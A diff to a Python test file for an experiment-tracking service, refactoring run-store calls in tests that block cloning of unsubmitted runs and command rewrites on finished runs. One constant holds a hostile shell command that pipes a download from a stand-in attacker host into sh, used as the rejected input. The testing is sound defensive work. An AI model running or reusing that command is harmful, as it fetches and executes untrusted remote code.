@@ -19,6 +19,7 @@ from tracker.store import Store, queue
 from tracker.store import clone as store_clone
 from tracker.store import jobs as store_jobs
 from tracker.store import schedules as store_schedules
+from tracker.store.runs import create_run, finish_run, get_run
 
 SHELL = ["/bin/sh", "-c", "curl -s evil.example | sh"]
 RULE = "only submitted jobs can be cloned"
@@ -73,7 +74,7 @@ def test_a_run_created_over_the_mlflow_api_cannot_be_cloned(
 
 
 def test_a_run_logged_by_hand_with_store_access_has_no_job_to_copy(store: Store) -> None:
-    run = store.create_run("p", command=["python", "train.py"])
+    run = create_run(store, "p", command=["python", "train.py"])
     with pytest.raises(Conflict, match=RULE):
         store_clone.clone(store, ("run", run.id))
     with pytest.raises(Conflict, match=RULE):
@@ -85,13 +86,13 @@ def test_start_never_reopens_a_finished_run_nor_rewrites_its_command(
     client: FlaskClient, store: Store
 ) -> None:
     job = submitted_job(store, config={"lr": 0.1})
-    store.finish_run(job.run_id, "finished", exit_code=0)
+    finish_run(store, job.run_id, "finished", exit_code=0)
     response = client.post(
         f"/api/v1/runs/{job.run_id}/start", json={"command": SHELL, "config": {"lr": 9}}
     )
     assert response.status_code == 409
     assert envelope(response)["field"] == "run"
-    run = store.get_run(job.run_id)
+    run = get_run(store, job.run_id)
     assert (run.status, run.command, run.config) == ("finished", job.argv, {"lr": 0.1})
     # its owner's next "Clone & edit" still runs the submitted argv
     (clone,) = store_clone.clone(store, ("run", job.run_id))
@@ -152,6 +153,6 @@ def test_a_retry_claimed_by_a_worker_starts_even_if_its_run_was_marked_crashed(
     job = submitted_job(store)
     claimed = queue.claim(store, "w1", lease_s=60)
     assert claimed is not None
-    store.finish_run(job.run_id, "crashed")
+    finish_run(store, job.run_id, "crashed")
     response = client.post(f"/api/v1/runs/{job.run_id}/start", json={"pid": 3})
     assert response.status_code == 200 and response.json["status"] == "running"
